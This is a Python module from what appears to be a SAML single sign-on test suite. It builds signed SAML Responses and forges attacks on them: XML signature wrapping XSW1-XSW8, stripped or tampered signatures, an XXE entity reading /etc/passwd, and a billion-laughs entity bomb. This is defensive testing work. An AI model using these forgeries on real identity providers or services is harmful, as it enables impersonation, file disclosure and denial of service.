"""Signed SAML Responses built here, and the forgeries of the attack suite made from them
(issue 17 item 10): the XML signature wrapping variants XSW1-XSW8 (Somorovsky et al., "On
Breaking SAML: Be Whoever You Want to Be", USENIX Security 2012; the numbering of SAML Raider),
signatures stripped or made with another key, comment injection in the NameID, an XPath
transform that leaves the NameID out of the digest, XXE and billion laughs.

Interpreter: Debian's /usr/bin/python3 with python3-lxml; xmlsec1 (the command) signs, so the
signatures are an independent implementation's, not Atrium's.

    f = Forge(workdir, idp_entity_id, sp_entity_id, acs_url)   # makes its own key (openssl)
    xml = f.response("alice@example.com", in_response_to="_abc")  # Response and Assertion signed
    b64 = f.b64(xml)
"""
import base64
import copy
import datetime
import os
import secrets
import subprocess
import tempfile

from lxml import etree

try:
    from .common import EMAIL, self_signed
except ImportError:  # run as a script's sibling
    from common import EMAIL, self_signed

SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol"
SAML = "urn:oasis:names:tc:SAML:2.0:assertion"
DS = "http://www.w3.org/2000/09/xmldsig#"
NS = {"samlp": SAMLP, "saml": SAML, "ds": DS}
XMLSEC1 = "/usr/bin/xmlsec1"
XPATH_TRANSFORM = "http://www.w3.org/TR/1999/REC-xpath-19991116"


FIXED_NOW = None  # a datetime to build Responses at (the fuzz seeds' fixed clock), else the real time
KEY_INFO = True   # whether signatures carry the certificate (the fuzz seeds leave it out: shorter)


def now():
    return FIXED_NOW or datetime.datetime.now(datetime.timezone.utc).replace(microsecond=0)


def instant(t):
    return t.strftime("%Y-%m-%dT%H:%M:%SZ")


def new_id():
    return "_" + secrets.token_hex(16)


def esc(s):
    return (s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;"))


def signature_template(ref_id, xpath=None):
    """An enveloped ds:Signature to be filled by xmlsec1 (RSA-SHA256, SHA-256, exclusive C14N).
    xpath: an extra XPath filter transform (XML-DSig §6.6.3), the pysaml2 weakness of the issue."""
    extra = ""
    if xpath:
        extra = (f'<ds:Transform Algorithm="{XPATH_TRANSFORM}"><ds:XPath xmlns:saml="{SAML}">{esc(xpath)}'
                 "</ds:XPath></ds:Transform>")
    return (f'<ds:Signature xmlns:ds="{DS}"><ds:SignedInfo>'
            '<ds:CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>'
            '<ds:SignatureMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"/>'
            f'<ds:Reference URI="#{ref_id}"><ds:Transforms>'
            '<ds:Transform Algorithm="http://www.w3.org/2000/09/xmldsig#enveloped-signature"/>'
            f'{extra}<ds:Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/></ds:Transforms>'
            '<ds:DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"/><ds:DigestValue/>'
            '</ds:Reference></ds:SignedInfo><ds:SignatureValue/>'
            + ("<ds:KeyInfo><ds:X509Data/></ds:KeyInfo>" if KEY_INFO else "") + "</ds:Signature>")


class Signer:
    """A key and certificate; sign(xml) runs `xmlsec1 --sign` on the first empty ds:Signature."""

    def __init__(self, workdir, name="idp", cn="Forge IdP", days=30, key=None, cert=None):
        if key is None:
            key, cert = self_signed(workdir, name, cn, days=days)
        self.key, self.cert, self.workdir = key, cert, workdir
        with open(cert) as f:
            self.cert_pem = f.read()

    def sign(self, xml):
        with tempfile.NamedTemporaryFile("w", suffix=".xml", dir=self.workdir, delete=False) as f:
            f.write(xml)
        try:
            r = subprocess.run([XMLSEC1, "--sign", "--privkey-pem", f"{self.key},{self.cert}",
                                "--id-attr:ID", f"{SAML}:Assertion", "--id-attr:ID", f"{SAMLP}:Response",
                                "--output", "-", f.name], capture_output=True, text=True)
        finally:
            os.unlink(f.name)
        if r.returncode != 0:
            raise RuntimeError(f"xmlsec1 --sign: {r.stderr}")
        return r.stdout.replace('<?xml version="1.0"?>\n', "", 1)


class Forge:
    def __init__(self, workdir, idp_entity_id, sp_entity_id, acs_url, signer=None):
        self.workdir = workdir
        self.idp, self.sp, self.acs = idp_entity_id, sp_entity_id, acs_url
        self.signer = signer or Signer(workdir)

    # ---- genuine Responses ------------------------------------------------------------------

    def assertion(self, name_id, *, in_response_to=None, name_id_format=EMAIL, attributes=None, issuer=None,
                  audience=None, recipient=None, not_before=-60, not_on_or_after=300, issue_offset=0,
                  signed=True, signer=None, xpath=None, assertion_id=None, raw_name_id=None):
        """The saml:Assertion (text; namespaces declared on it, so it can move). Times are seconds
        from now. raw_name_id: the NameID's inner XML as given (e.g. with a comment)."""
        t = now()
        aid = assertion_id or new_id()
        irt = f' InResponseTo="{esc(in_response_to)}"' if in_response_to else ""
        fmt = f' Format="{esc(name_id_format)}"' if name_id_format else ""
        attrs = ""
        for name, values in (attributes or {}).items():
            vals = "".join(f'<saml:AttributeValue xmlns:xs="http://www.w3.org/2001/XMLSchema" '
                           f'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:type="xs:string">{esc(v)}'
                           "</saml:AttributeValue>" for v in values)
            attrs += (f'<saml:Attribute Name="{esc(name)}" '
                      f'NameFormat="urn:oasis:names:tc:SAML:2.0:attrname-format:uri">{vals}</saml:Attribute>')
        if attrs:
            attrs = f"<saml:AttributeStatement>{attrs}</saml:AttributeStatement>"
        sig = signature_template(aid, xpath) if signed else ""
        text = (f'<saml:Assertion xmlns:saml="{SAML}" ID="{aid}" Version="2.0" '
                f'IssueInstant="{instant(t + datetime.timedelta(seconds=issue_offset))}">'
                f"<saml:Issuer>{esc(issuer or self.idp)}</saml:Issuer>{sig}"
                f"<saml:Subject><saml:NameID{fmt}>{raw_name_id if raw_name_id is not None else esc(name_id)}</saml:NameID>"
                '<saml:SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer">'
                f'<saml:SubjectConfirmationData NotOnOrAfter="{instant(t + datetime.timedelta(seconds=not_on_or_after))}" '
                f'Recipient="{esc(recipient or self.acs)}"{irt}/></saml:SubjectConfirmation></saml:Subject>'
                f'<saml:Conditions NotBefore="{instant(t + datetime.timedelta(seconds=not_before))}" '
                f'NotOnOrAfter="{instant(t + datetime.timedelta(seconds=not_on_or_after))}">'
                f"<saml:AudienceRestriction><saml:Audience>{esc(audience or self.sp)}</saml:Audience>"
                "</saml:AudienceRestriction></saml:Conditions>"
                f'<saml:AuthnStatement AuthnInstant="{instant(t)}" SessionIndex="{new_id()}"><saml:AuthnContext>'
                "<saml:AuthnContextClassRef>urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport"
                f"</saml:AuthnContextClassRef></saml:AuthnContext></saml:AuthnStatement>{attrs}</saml:Assertion>")
        return (signer or self.signer).sign(text) if signed else text

    def response(self, name_id, *, sign="both", in_response_to=None, destination=None, signer=None,
                 response_issuer=None, assertion_xml=None, **assertion_kw):
        """A samlp:Response around one Assertion. sign: both | assertion | response | none."""
        signer = signer or self.signer
        a = assertion_xml or self.assertion(name_id, in_response_to=in_response_to,
                                            signed=sign in ("both", "assertion"), signer=signer, **assertion_kw)
        rid = new_id()
        irt = f' InResponseTo="{esc(in_response_to)}"' if in_response_to else ""
        sig = signature_template(rid) if sign in ("both", "response") else ""
        text = (f'<samlp:Response xmlns:samlp="{SAMLP}" xmlns:saml="{SAML}" ID="{rid}" Version="2.0" '
                f'IssueInstant="{instant(now())}" Destination="{esc(destination or self.acs)}"{irt}>'
                f"<saml:Issuer>{esc(response_issuer or self.idp)}</saml:Issuer>{sig}"
                f'<samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status>'
                f"{a}</samlp:Response>")
        return signer.sign(text) if sign in ("both", "response") else text

    @staticmethod
    def b64(xml):
        return base64.b64encode(xml.encode() if isinstance(xml, str) else xml).decode()


# ---- forgeries (each takes a genuine signed Response as text, returns the forged text) -------

def _tree(xml):
    return etree.fromstring(xml.encode(), etree.XMLParser(remove_blank_text=False, resolve_entities=False))


def _text(root):
    return etree.tostring(root, encoding="unicode")


def _assertion(root):
    return root.find("saml:Assertion", NS)


def _set_name_id(assertion, value):
    assertion.find("saml:Subject/saml:NameID", NS).text = value


def _unsign(el):
    for s in el.findall("ds:Signature", NS):
        el.remove(s)
    return el


def xsw(n, signed_xml, evil_name_id):
    """XSW1..XSW8 on a genuine Response: the signed element is kept intact somewhere the
    signature's reference still finds it, while the element an SP might read says evil_name_id.
    XSW1-2 need the Response signed, XSW3-8 the Assertion signed."""
    root = _tree(signed_xml)
    if n in (1, 2):
        # The original signed Response moves inside (1: into its ds:Signature; 2: before it, a
        # detached signature); the new root has a fresh ID and an Assertion naming evil.
        orig = copy.deepcopy(root)
        sig = root.find("ds:Signature", NS)
        root.set("ID", new_id())
        a = _assertion(root)
        _unsign(a)
        a.set("ID", new_id())
        _set_name_id(a, evil_name_id)
        sig_in_orig = orig.find("ds:Signature", NS)
        orig.remove(sig_in_orig)
        if n == 1:
            obj = etree.SubElement(sig, f"{{{DS}}}Object")
            obj.append(orig)
        else:
            sig.addprevious(orig)
        return _text(root)
    a = _assertion(root)
    orig = copy.deepcopy(a)
    if n == 3:  # evil Assertion (new ID) before the original, as the Response's first assertion
        evil = _unsign(copy.deepcopy(a))
        evil.set("ID", new_id())
        _set_name_id(evil, evil_name_id)
        a.addprevious(evil)
    elif n == 4:  # the original moves inside the evil Assertion
        evil = _unsign(copy.deepcopy(a))
        evil.set("ID", new_id())
        _set_name_id(evil, evil_name_id)
        a.addprevious(evil)
        root.remove(a)
        evil.append(orig)
    elif n == 5:  # the signed Assertion is changed in place; an unsigned copy of the original at the end
        _set_name_id(a, evil_name_id)
        a.set("ID", new_id())
        root.append(_unsign(orig))
    elif n == 6:  # as 5, the copy inside the evil Assertion's ds:Signature
        _set_name_id(a, evil_name_id)
        a.set("ID", new_id())
        a.find("ds:Signature", NS).append(_unsign(orig))
    elif n == 7:  # the original inside an Extensions element, the evil one in its place
        ext = etree.Element(f"{{{SAMLP}}}Extensions")
        ext.append(orig)
        root.find("saml:Issuer", NS).addnext(ext)
        _set_name_id(a, evil_name_id)
        a.set("ID", new_id())
        _unsign(a)
    elif n == 8:  # the original (unsigned copy) inside ds:Object of the evil Assertion's signature
        _set_name_id(a, evil_name_id)
        sig = a.find("ds:Signature", NS)
        obj = etree.SubElement(sig, f"{{{DS}}}Object")
        obj.append(_unsign(orig))
    else:
        raise ValueError(n)
    return _text(root)


def strip_signatures(signed_xml):
    root = _tree(signed_xml)
    for s in root.iter(f"{{{DS}}}Signature"):
        s.getparent().remove(s)
    return _text(root)


def tamper_name_id(signed_xml, value):
    """The NameID changed after signing (the digest no longer matches)."""
    root = _tree(signed_xml)
    _set_name_id(_assertion(root), value)
    return _text(root)


def tamper_destination(signed_xml, value):
    root = _tree(signed_xml)
    root.set("Destination", value)
    return _text(root)


def xxe_in(signed_xml):
    """A DOCTYPE declaring an external entity (file:///etc/passwd) in front of a genuine
    Response, the NameID made of that entity."""
    i = signed_xml.find("<samlp:Response")
    nid = _tree(signed_xml).find("saml:Assertion/saml:Subject/saml:NameID", NS).text
    doc = signed_xml[:i] + '<!DOCTYPE samlp:Response [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' + signed_xml[i:]
    return doc.replace(f">{esc(nid)}</saml:NameID>", ">&xxe;</saml:NameID>", 1)


def billion_laughs(signed_xml):
    ents = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol%s;" % ("" if i == 1 else i - 1)) * 10}">' for i in range(1, 10))
    i = signed_xml.find("<samlp:Response")
    root = _tree(signed_xml)
    nid = root.find("saml:Assertion/saml:Subject/saml:NameID", NS).text
    doc = signed_xml[:i] + f"<!DOCTYPE samlp:Response [{ents}]>" + signed_xml[i:]
    return doc.replace(f">{esc(nid)}</saml:NameID>", ">&lol9;</saml:NameID>", 1)
